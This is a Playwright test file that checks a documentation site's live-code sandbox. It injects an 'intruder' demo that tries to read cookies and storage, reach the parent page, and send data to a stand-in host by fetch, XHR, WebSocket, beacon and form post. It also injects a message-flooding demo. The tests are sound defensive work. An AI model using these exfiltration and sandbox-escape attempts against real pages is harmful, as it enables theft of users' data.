import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { hostWithoutHeaders } from './support/host-without-headers';
import { openHydrated } from './support/hydration';
import { openEditor, sandbox } from './support/live';

const BUTTONS = '/material-ui/react-button/';
const DEMO = 'BasicButtons';
const SANDBOX = '/demo/live/material/';
/** The text that the sandbox's page shows outside a sandbox. */
const NOT_RUNNING = 'Edited demos run here when the documentation embeds this page.';

const LEAK = 'https://leak.example.com';

/**
 * A demo that makes attempts that hostile code might make, and lists those that succeed. If an
 * attempt neither succeeds nor fails, the list doesn't appear, which fails the test too.
 */
const INTRUDER = `
import * as React from 'react';

const attempts: Record<string, () => unknown> = {
  'read cookies': () => document.cookie,
  'write cookies': () => { document.cookie = 'taken=1'; },
  'read storage': () => localStorage.getItem('mui-mode'),
  'session storage': () => sessionStorage.length,
  'open a database': () => indexedDB.open('x'),
  'read the page': () => parent.document.title,
  'read the page through the frame': () => (frameElement as Element).outerHTML,
  'read the address of the page': () => parent.location.href,
  'leave the page': () => { top!.location.href = '${LEAK}/top'; },
  'open a window': () => { if (!window.open('${LEAK}/window')) throw new Error('no window'); },
  'fetch from the site': () => fetch('/sitemap.xml', { mode: 'no-cors' }),
  'fetch from elsewhere': () => fetch('${LEAK}/fetch', { mode: 'no-cors' }),
  'send an XMLHttpRequest': () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('GET', '${LEAK}/xhr');
    request.onload = resolve;
    request.onerror = reject;
    request.send();
  }),
  'image from elsewhere': () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = reject;
    image.src = '${LEAK}/image.png';
  }),
  'socket': () => new Promise((resolve, reject) => {
    const socket = new WebSocket('wss://leak.example.com/socket');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  'WebRTC': () => new RTCPeerConnection(),
  'WebRTC of a frame': () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return new frame.contentWindow!.RTCPeerConnection();
  },
  'script from elsewhere': () => new Promise((resolve, reject) => {
    const script = document.createElement('script');
    script.onload = resolve;
    script.onerror = reject;
    script.src = '${LEAK}/script.js';
    document.head.append(script);
  }),
  'frame from elsewhere': () => new Promise((resolve, reject) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      if (effectiveDirective === 'frame-src') {
        reject();
      }
    });
    const frame = document.createElement('iframe');
    frame.src = '${LEAK}/frame';
    document.body.append(frame);
  }),
  'worker': () => new Promise((resolve, reject) => {
    const worker = new Worker('/assets/worker.js');
    worker.onerror = reject;
  }),
};

export default function Intruder() {
  const [results, setResults] = React.useState<string[] | null>(null);
  React.useEffect(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = '${LEAK}/form';
    document.body.append(form);
    form.submit();
    navigator.sendBeacon('${LEAK}/beacon', 'x');
    Promise.all(
      Object.entries(attempts).map(async ([name, run]) => {
        try {
          await run();
          return name;
        } catch {
          return '';
        }
      }),
    ).then((names) => setResults(names.filter(Boolean)));
  }, []);
  return <output>{results ? \`Succeeded: \${results.join(', ') || 'nothing'}\` : 'Trying'}</output>;
}
`;

/** Answers and records the requests to the attacker's host. */
async function watchLeaks(page: Page): Promise<string[]> {
  const leaks: string[] = [];
  await page.context().route(`${LEAK}/**`, async (route) => {
    leaks.push(new URL(route.request().url()).pathname);
    await route.fulfill({ body: 'leaked' });
  });
  return leaks;
}

async function expectHarmless(page: Page, site: string): Promise<void> {
  const leaks = await watchLeaks(page);
  await page.context().addCookies([{ name: 'secret', value: '1', url: site }]);
  await openHydrated(page, site + BUTTONS);
  const editor = await openEditor(page, DEMO);
  await editor.fill(INTRUDER);
  const output = sandbox(page, DEMO).getByRole('status');
  await expect(output).toHaveText('Succeeded: nothing', { timeout: 20_000 });
  expect(leaks).toEqual([]);
  await expect(page).toHaveURL(new RegExp(`${BUTTONS}$`));
  expect(page.context().pages()).toHaveLength(1);
}

test(
  'edited code reaches neither the site nor another host',
  { tag: '@commit' },
  async ({ page, baseURL }) => {
    await expectHarmless(page, baseURL!);
  },
);

test('edited code reaches neither the site nor another host on a server without headers', async ({
  page,
}) => {
  const { url, server } = await hostWithoutHeaders();
  await expectHarmless(page, url);
  server.close();
});

test('the site itself may use cookies, storage and requests, which the sandbox blocks', async ({
  page,
}) => {
  await openHydrated(page, BUTTONS);
  const results = await page.evaluate(async () => {
    document.cookie = 'own=1';
    const response = await fetch('/sitemap.xml');
    return [document.cookie.includes('own=1'), localStorage.length >= 0, response.ok];
  });
  expect(results).toEqual([true, true, true]);
});

test('the sandbox cannot navigate its frame to another host', async ({ page }) => {
  const leaks = await watchLeaks(page);
  await openHydrated(page, BUTTONS);
  const editor = await openEditor(page, DEMO);
  const refused = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          resolve(effectiveDirective),
        );
      }),
  );
  await editor.fill(
    `export default function Leave() { location.href = '${LEAK}/away'; return null; }`,
  );
  expect(await refused).toBe('frame-src');
  expect(leaks).toEqual([]);
});

test('floods of messages and large messages of edited code do not block the page', async ({
  page,
}) => {
  await openHydrated(page, BUTTONS);
  const field = await openEditor(page, DEMO);
  await field.fill(`import * as React from 'react';

export default function Flood() {
  React.useEffect(() => {
    parent.postMessage({ type: 'failed', id: 1, message: 'x'.repeat(150_000_000) }, '*');
    const timer = setInterval(() => {
      for (let count = 0; count < 1000; count += 1) {
        parent.postMessage({ type: 'failed', id: 1, message: 'posted' }, '*');
        reportError(new Error('reported ' + count));
      }
    }, 20);
    return () => clearInterval(timer);
  }, []);
  return <p>Flooding</p>;
}`);
  await expect(sandbox(page, DEMO).getByText('Flooding')).toBeVisible();
  await expect(page.getByText('Error: reported').first()).toBeVisible();
  await field.fill('export default () => <p>Calm</p>;');
  await expect(sandbox(page, DEMO).getByText('Calm')).toBeVisible();
});

test('the sandbox loads the scripts and fonts that it needs and logs no errors', async ({
  page,
}) => {
  const failed: string[] = [];
  page.on('requestfailed', (request) => failed.push(request.url()));
  page.on('console', (message) => message.type() === 'error' && failed.push(message.text()));
  await openHydrated(page, BUTTONS);
  const editor = await openEditor(page, DEMO);
  await editor.fill(`import Button from '@mui/material/Button';
export default () => <Button>Proof</Button>;`);
  const button = sandbox(page, DEMO).getByRole('button', { name: 'Proof' });
  await expect(button).toHaveCSS('text-transform', 'uppercase');
  const loaded = () =>
    button.evaluate(() =>
      [...document.fonts].filter(({ status }) => status === 'loaded').map(({ family }) => family),
    );
  await expect.poll(async () => (await loaded()).join()).toContain('Roboto');
  expect(failed).toEqual([]);
});

test('the page of the sandbox runs no code outside of a sandbox', async ({ page }) => {
  const { url, server } = await hostWithoutHeaders();
  await page.goto(url + SANDBOX);
  await expect(page.getByRole('main')).toContainText(NOT_RUNNING);

  await openHydrated(page, url + BUTTONS);
  await page.evaluate((src) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    frame.title = 'Bare frame';
    frame.onload = () =>
      frame.contentWindow!.postMessage(
        { type: 'run', id: 1, variant: 'JS', folder: '', code: 'export default () => "ran"' },
        '*',
      );
    document.body.append(frame);
  }, SANDBOX);
  const bare = page.frameLocator('iframe[title="Bare frame"]');
  await expect(bare.getByRole('main')).toHaveText(NOT_RUNNING);
  server.close();
});
